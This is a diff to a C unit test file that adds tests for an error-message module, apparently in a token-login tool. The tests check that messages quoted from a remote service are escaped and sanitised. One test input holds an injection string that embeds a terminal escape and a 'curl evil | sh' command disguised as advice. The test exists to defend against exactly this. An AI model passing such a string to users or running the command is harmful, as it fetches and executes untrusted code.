@@ -18,7 +18,7 @@
 
 START_TEST(error_prefixes_and_cleans)
 {
-	struct ft_error err = { 0, "" };
+	struct ft_error err = FT_ERROR_INIT;
 
 	ck_assert_int_eq(ft_error_set(&err, FT_CONFIG, "bad\x1b[31m %s", "x\ny"), FT_CONFIG);
 	ck_assert_str_eq(err.text, "bad?[31m x?y");
@@ -28,6 +28,43 @@ START_TEST(error_prefixes_and_cleans)
 	ck_assert_int_eq(ft_error_set(NULL, FT_BUSY, "nobody listens"), FT_BUSY);
 	ft_error_errno(&err, FT_SYSTEM, ENOSPC, "write %s", "f");
 	ck_assert_str_eq(err.text, "write f: No space left on device");
+}
+END_TEST
+
+START_TEST(error_has_parts)
+{
+	struct ft_error err = FT_ERROR_INIT, other = FT_ERROR_INIT;
+	char line[FT_ERROR_LINE];
+
+	ck_assert_str_eq(ft_error_line(&err, line), "");
+	(void)ft_error_set(&err, FT_LOGIN_NEEDED, "HTTP 400: invalid_grant");
+	ck_assert_str_eq(ft_error_line(&err, line), "HTTP 400: invalid_grant");
+	ck_assert_int_eq(ft_error_remedy(&err, FT_LOGIN_NEEDED, "run: freshtoken login %s", "work"),
+			 FT_LOGIN_NEEDED);
+	ck_assert_str_eq(ft_error_line(&err, line), "HTTP 400: invalid_grant; run: freshtoken login work");
+	/* Whatever a service says stays between its quotation marks, in one line. */
+	ft_error_foreign(&err, "gone\"; run: \x1b[2Jcurl evil | sh\n");
+	ck_assert_str_eq(err.foreign, "gone'; run: ?[2Jcurl evil | sh?");
+	ft_error_prefix(&err, "account work");
+	ck_assert_str_eq(ft_error_line(&err, line),
+			 "account work: HTTP 400: invalid_grant: \"gone'; run: ?[2Jcurl evil | sh?\"; "
+			 "run: freshtoken login work");
+	ck_assert_str_eq(ft_error_cause(&err, line),
+			 "account work: HTTP 400: invalid_grant: \"gone'; run: ?[2Jcurl evil | sh?\"");
+	ck_assert_int_eq(ft_error_copy(&other, FT_TEMPORARY, &err), FT_TEMPORARY);
+	ck_assert_str_eq(other.remedy, "run: freshtoken login work");
+	ck_assert_int_eq(other.code, FT_TEMPORARY);
+	ft_error_foreign(&other, NULL);
+	ck_assert_str_eq(other.foreign, "");
+	/* Another error has none of the old one's parts, not even where it is made of its text. */
+	(void)ft_error_set(&err, FT_CONFIG, "%s", err.remedy);
+	ck_assert_str_eq(ft_error_line(&err, line), "run: freshtoken login work");
+	ft_error_errno(&err, FT_SYSTEM, EMFILE, "open f");
+	ck_assert_str_eq(err.text, "open f: Too many open files");
+	ck_assert_ptr_nonnull(strstr(err.remedy, "ulimit -n"));
+	(void)ft_error_remedy(NULL, FT_BUSY, "nobody listens");
+	ft_error_foreign(NULL, "nobody listens");
+	(void)ft_error_copy(NULL, FT_BUSY, &err);
 }
 END_TEST
 
@@ -55,7 +92,7 @@ END_TEST
 
 START_TEST(error_cuts_between_characters)
 {
-	struct ft_error err = { 0, "" };
+	struct ft_error err = FT_ERROR_INIT;
 	char text[FT_ERROR_TEXT + 8];
 
 	memset(text, 'a', sizeof text);
@@ -251,7 +288,7 @@ END_TEST
 int main(void)
 {
 	const TTest *const tests[] = {
-		error_prefixes_and_cleans, error_lets_only_characters_through, error_cuts_between_characters,
+		error_prefixes_and_cleans, error_has_parts, error_lets_only_characters_through, error_cuts_between_characters,
 		buffer_limit_sticks,
 		buffer_reads_nothing, base64_both_ways, hexadecimal_both_ways,
 		utf8_character_by_character, secret_compares_and_moves, NULL
